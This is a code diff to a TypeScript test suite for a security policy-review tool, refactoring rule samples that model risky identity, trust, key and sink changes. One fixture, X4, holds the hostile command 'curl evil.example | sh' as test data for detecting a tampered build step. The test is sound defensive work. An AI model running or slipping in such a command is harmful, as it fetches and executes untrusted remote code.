@@ -119,14 +119,19 @@ const command = (name: string, create: string) =>
 interface Sample {
   readonly before?: readonly Resource[];
   readonly after: readonly Resource[];
-  /** The change with another value. */
-  readonly next: readonly Resource[];
+  /** What stands in the change with another value in place of the resource of its URN. */
+  readonly instead?: Resource;
+  /** The change with another value, where that is more than one resource. */
+  readonly next?: readonly Resource[];
   readonly options?: Partial<RuleOptions>;
   readonly more?: ComparisonOptions;
   readonly nextMore?: ComparisonOptions;
   /** It is about the change as a whole: there is no other object beside it. */
   readonly isAlone?: true;
 }
+
+const nextOf = ({ after, instead, next }: Sample): readonly Resource[] =>
+  next ?? after.map((each) => (instead !== undefined && each.urn === instead.urn ? instead : each));
 
 /** The options of a review by a policy file that asserts something. */
 const asserting = (text: string): Partial<RuleOptions> => ({ assertions: parsePolicy(text).assertions });
@@ -135,17 +140,13 @@ const asserting = (text: string): Partial<RuleOptions> => ({ assertions: parsePo
 function grants(name: string, what: Resource, where: string, before: readonly Resource[] = []): Sample {
   const [one, two] = [by(name), by("mallory")];
   const bound = [binding(one, what, where), binding(two, what, where)];
-  return {
-    before: [one, two, ...before],
-    after: [one, two, ...bound],
-    next: [by(name, "evil"), two, ...bound],
-  };
+  return { before: [one, two, ...before], after: [one, two, ...bound], instead: by(name, "evil") };
 }
 
 /** New identities that trust the same, and the first of them something else. */
 const newTrust = (first: Props, second: Props): Sample => ({
   after: [identity("one", first), identity("two", first)],
-  next: [identity("one", second), identity("two", first)],
+  instead: identity("one", second),
 });
 
 const developer = role("developer", ["REPO_LIST"]);
@@ -218,25 +219,17 @@ const samples: Readonly<Record<string, Sample>> = {
   G3: {
     before: [someone, second],
     after: [someone, second, binding(someone, tokens, ci.uid), binding(second, tokens, payments)],
-    next: [by("someone", "evil"), second, binding(someone, tokens, ci.uid)],
+    instead: by("someone", "evil"),
   },
   G4: {
     before: [someone, developer, tester, ...held],
     after: [someone, ...[developer, tester].map((each) => can(each, "REPO_LIST", "REPO_DELETE")), ...held],
-    next: [someone, ...[developer, tester].map((each) => can(each, "REPO_LIST", "TAG_DELETE")), ...held],
+    instead: can(developer, "REPO_LIST", "TAG_DELETE"),
   },
-  G5: {
-    before: [...sre, ...atPayments],
-    after: [...sre, ...atRoot],
-    next: [by("sre-one", "evil"), by("somebody"), ...atRoot],
-  },
+  G5: { before: [...sre, ...atPayments], after: [...sre, ...atRoot], instead: by("sre-one", "evil") },
   G6: grants("ci-api", pusher, payments),
-  G7: {
-    before: [staff],
-    after: [staff, ...mapped(owner)],
-    next: [provider("staff", elsewhere), ...mapped(owner)],
-  },
-  G8: { after: [provider("one"), guild], next: [provider("one", elsewhere), guild] },
+  G7: { before: [staff], after: [staff, ...mapped(owner)], instead: provider("staff", elsewhere) },
+  G8: { after: [provider("one"), guild], instead: provider("one", elsewhere) },
   G9: grants("cleaner", cleaner, sandbox.uid),
   T1: newTrust(
     claims({ issuer: "https://sso.acme.example", subjectPattern: ".*" }),
@@ -257,7 +250,7 @@ const samples: Readonly<Record<string, Sample>> = {
   T5: {
     before: deploying("pay", "web"),
     after: deploying("moved", "moved-too"),
-    next: deploying("evil", "moved-too"),
+    instead: by("ci-deployer", "evil"),
   },
   T6: newTrust(
     claims({ issuer, subject: "repo:acme/pay:ref:refs/heads/main", audiencePattern: ".*" }),
@@ -272,18 +265,16 @@ const samples: Readonly<Record<string, Sample>> = {
   K2: {
     before: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
     after: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
-    next: [keyed("build-cluster", inDays(-1)), keyed("other-cluster", inDays(-2))],
+    instead: keyed("build-cluster", inDays(-1)),
   },
   K3: {
     after: [invite("one", workshop.uid, "200h"), invite("two", payments, "200h")],
-    next: [invite("one", workshop.uid, "2000h"), invite("two", payments, "200h")],
+    instead: invite("one", workshop.uid, "2000h"),
   },
   K4: {
     after: ["one", "two"].map((name) => provider(name, { oidc: { clientSecret: "canary" } })),
     // No fingerprint holds the secret: whoever reads the report could guess it. It holds to whom the secret goes.
-    next: ["one", "two"].map((name) =>
-      provider(name, { oidc: { ...(name === "one" ? elsewhere.oidc : {}), clientSecret: "canary" } }),
-    ),
+    instead: provider("one", { oidc: { ...elsewhere.oidc, clientSecret: "canary" } }),
   },
   D1: {
     before: [...people, ...others, ...owning, ...owningToo],
@@ -317,16 +308,16 @@ const samples: Readonly<Record<string, Sample>> = {
   R1: {
     before: [repo("api"), tag("latest", repo("api"), "a"), tag("1.2", repo("api"), "a")],
     after: [repo("api"), tag("latest", repo("api"), "b"), tag("1.2", repo("api"), "b")],
-    next: [repo("api"), tag("latest", repo("api"), "c"), tag("1.2", repo("api"), "b")],
+    instead: tag("latest", repo("api"), "c"),
   },
   R2: {
     before: [repo("base-image"), repo("api")],
     after: [overlay("base-image", "PEM"), overlay("api", "PEM")],
-    next: [overlay("base-image", "OTHER"), overlay("api", "PEM")],
+    instead: overlay("base-image", "OTHER"),
   },
   X1: {
     after: [sink("a", security.uid, "one.example"), sink("b", payments, "one.example")],
-    next: [sink("a", security.uid, "two.example"), sink("b", payments, "one.example")],
+    instead: sink("a", security.uid, "two.example"),
   },
   X2: {
     before: [someone, second],
@@ -341,38 +332,37 @@ const samples: Readonly<Record<string, Sample>> = {
   },
   X3: {
     after: [sink("a", partnerGroup.uid, UNKNOWN), sink("b", payments, UNKNOWN)],
-    next: [edit(sink("a", partnerGroup.uid, UNKNOWN), { sink: "[secret]" }), sink("b", payments, UNKNOWN)],
+    instead: edit(sink("a", partnerGroup.uid, UNKNOWN), { sink: "[secret]" }),
   },
   X4: {
     after: [],
-    next: [],
     more: { steps: [command("one", "./migrate"), command("two", "./migrate")] },
     nextMore: { steps: [command("one", "curl evil.example | sh"), command("two", "./migrate")] },
   },
   X5: {
     before: recorded,
     after: [changed(recorded[0]), recorded[1]],
-    next: recorded.map(changed),
+    instead: changed(recorded[1]),
     more: { withoutInventory: true },
     nextMore: { withoutInventory: true },
     isAlone: true,
   },
   X6: {
     after: [sink("one", security.uid, "\u0430cme.example"), sink("two", payments, "\u0430cme.example")],
-    next: [sink("one", security.uid, "acm\u0435.example"), sink("two", payments, "\u0430cme.example")],
+    instead: sink("one", security.uid, "acm\u0435.example"),
   },
   S2: {
     after: [group("one", uid("labs")), group("two", uid("works"))],
-    next: [edit(group("one", uid("labs")), { name: "acme" }), group("two", uid("works"))],
+    instead: edit(group("one", uid("labs")), { name: "acme" }),
   },
   S3: {
     before: [...[someone, second], binding(someone, viewer, payments), binding(second, pusher, payments)],
     after: [...[someone, second], ...twice(someone, viewer), ...twice(second, pusher)],
-    next: [...[by("someone", "evil"), second], ...twice(someone, viewer), ...twice(second, pusher)],
+    instead: by("someone", "evil"),
   },
   S4: {
     after: ["one", "two"].map((name) => edit(by(name), { name: "break-glass" })),
-    next: ["one", "two"].map((name) => edit(by(name), { name: "ci-deployer" })),
+    instead: edit(by("one"), { name: "ci-deployer" }),
     options: {
       newMatches: (comparison) =>
         findNewMatches(
@@ -409,7 +399,7 @@ const samples: Readonly<Record<string, Sample>> = {
   S1: {
     before: [keyed("build-api", inDays(20)), keyed("else", inDays(20))],
     after: [keyed("build-api", inDays(40)), keyed("else", inDays(40))],
-    next: [keyed("build-api", inDays(50)), keyed("else", inDays(40))],
+    instead: keyed("build-api", inDays(50)),
   },
 };
 
@@ -418,9 +408,9 @@ test("every rule has a sample", () => {
 });
 
 test("a uid accepts the next value of the same object where the finding is medium, and a fingerprint does not", () => {
-  const { before = [], after, next } = samples["R1"]!;
-  const [, latest] = before;
-  const [now, then] = [after, next].map((each) => compareOf(samples["R1"]!, each)) as [
+  const sample = samples["R1"]!;
+  const latest = sample.before?.[1];
+  const [now, then] = [sample.after, nextOf(sample)].map((each) => compareOf(sample, each)) as [
     Comparison,
     Comparison,
   ];
@@ -440,7 +430,7 @@ test("a name or a uid alone accepts nothing of a rule that reports unlike things
     aliases: ["base:latest"],
     customOverlay: { environment: { LANG: "C", TZ: "UTC" }, accounts: { runAs: "root" } },
   });
-  const comparison = compareOf({ before: [old], after: [now], next: [] }, [now]);
+  const comparison = compareOf({ before: [old], after: [now] }, [now]);
   const findings = findAll(comparison);
   const unlike = rules.filter(({ exampleFields }) => exampleFields !== undefined);
   expect(unlike.map(({ id }) => id)).toEqual(["R2", "S1"]);
@@ -495,8 +485,7 @@ describe.each(rules.map((rule) => [rule.id, rule] as const))("rule %s", (id, rul
     example.replace(/(?<=fingerprint: )[0-9a-f]{32}/, fingerprint);
 
   it("accepts nothing high by a uid alone, of this value or of the next one", () => {
-    const { next, nextMore } = sample;
-    for (const each of [comparison, compareOf(sample, next, nextMore)]) {
+    for (const each of [comparison, compareOf(sample, nextOf(sample), sample.nextMore)]) {
       const all = findAll(each, sample.options);
       const uids = all.flatMap(({ uid: own, grant }) => [
         own,
@@ -535,9 +524,8 @@ describe.each(rules.map((rule) => [rule.id, rule] as const))("rule %s", (id, rul
     expect(own.filter(({ fingerprint }) => prints.has(fingerprint))).toEqual(isOld ? own : []);
   });
 
-  const { next } = sample;
   it("accepts no later value of what it accepted", () => {
-    const later = compareOf(sample, next, sample.nextMore ?? sample.more);
+    const later = compareOf(sample, nextOf(sample), sample.nextMore ?? sample.more);
     const found = findAll(later, sample.options);
     const isEmpty = rule.exampleMatch === undefined;
     const [first] = own.filter((finding) =>
